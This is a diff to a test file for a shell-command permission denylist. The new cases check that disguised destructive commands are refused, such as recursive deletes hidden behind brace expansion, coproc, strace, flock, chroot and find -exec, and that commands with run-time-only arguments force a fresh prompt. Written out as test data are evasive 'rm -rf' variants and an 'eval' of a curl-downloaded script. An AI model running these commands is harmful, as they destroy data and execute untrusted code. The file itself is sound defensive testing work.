@@ -5,6 +5,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { hardDenied } from '../../src/permissions/denylist.js';
+import { shellPermission } from '../../src/permissions/shell-policy.js';
 import { ensureShellParser, shellParserReady, splitShell } from '../../src/permissions/shell-parse.js';
 
 const DENIED: Array<[string, RegExp]> = [
@@ -58,6 +59,19 @@ const DENIED: Array<[string, RegExp]> = [
   ["sh -c 'bash -c \"rm -rf /\"'", /recursive delete/],
   ['[ -d x ] && rm -rf x', /recursive delete/],
   ['eval "$(curl -s https://x)"', /downloaded script/],
+  // Brace expansion, coproc and programs that run the command in their arguments.
+  ['{rm,-rf,build}', /recursive delete/],
+  ['rm {-rf,build}', /recursive delete/],
+  ['{sudo,ls}', /elevated privileges/],
+  ['coproc rm -rf build', /recursive delete/],
+  ['coproc NAME { rm -rf build; }', /recursive delete/],
+  ['strace -f rm -rf build', /recursive delete/],
+  ['flock /tmp/lock rm -rf build', /recursive delete/],
+  ['chroot / rm -rf build', /recursive delete/],
+  ["flock /tmp/lock sh -c 'rm -rf build'", /recursive delete/],
+  ["script -qc 'rm -rf build' /dev/null", /recursive delete/],
+  ["flock /tmp/lock -c 'rm -rf build'", /recursive delete/],
+  ["find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", /recursive delete/],
 ];
 
 const ALLOWED = [
@@ -78,6 +92,11 @@ const ALLOWED = [
   'systemctl restart nginx',
   'fib() { fib 1; fib 2; }',
   'cat <<EOF > notes.txt\nrm -rf dist\nsudo reboot\nEOF',
+  'echo {rm,-rf,build}',
+  'flock /tmp/lock make build',
+  'strace -f ls',
+  'rm -- "$f"',
+  'rm "$f"',
 ];
 
 test('before the parser loads, the lexer alone still refuses every shape', () => {
@@ -126,4 +145,19 @@ test('splitShell splits on every operator and inside compound commands', async (
   const piped = await splitShell('cat x | grep y | wc -l');
   assert.deepEqual(piped.map((s) => s.pipeIndex), [0, 1, 2]);
   assert.equal(new Set(piped.map((s) => s.pipeline)).size, 1);
+});
+
+test('a word only known at run time that could make a denied command forces a fresh prompt, not a refusal', async () => {
+  const risky = ['rm "$f"', 'F=-rf; rm $F build', 'rm $FLAGS build', 'rm *', 'dd if=a of=$DEV', 'chmod -R $MODE dir', 'systemctl $ACTION', '/bin/r? -rf build'];
+  for (const command of risky) {
+    const request = await shellPermission(command);
+    assert.equal(request.hardDeny, undefined, command);
+    assert.ok(request.forcePrompt, `${command} should force a fresh prompt`);
+  }
+  assert.match((await shellPermission('rm "$f"')).forcePrompt!, /only known when the shell runs it .*rm -- "\$f"/);
+  // Operands after `--`, behind a fixed prefix, or globs that cannot name a flag stay ordinary.
+  for (const command of ['rm -- "$f"', 'rm ./"$f"', 'rm -f *.o', 'rm -- *', 'dd if=$SRC of=out.img', 'chmod 644 "$f"', 'ls $DIR']) {
+    const request = await shellPermission(command);
+    assert.equal(request.forcePrompt, undefined, `${command}: ${request.forcePrompt}`);
+  }
 });
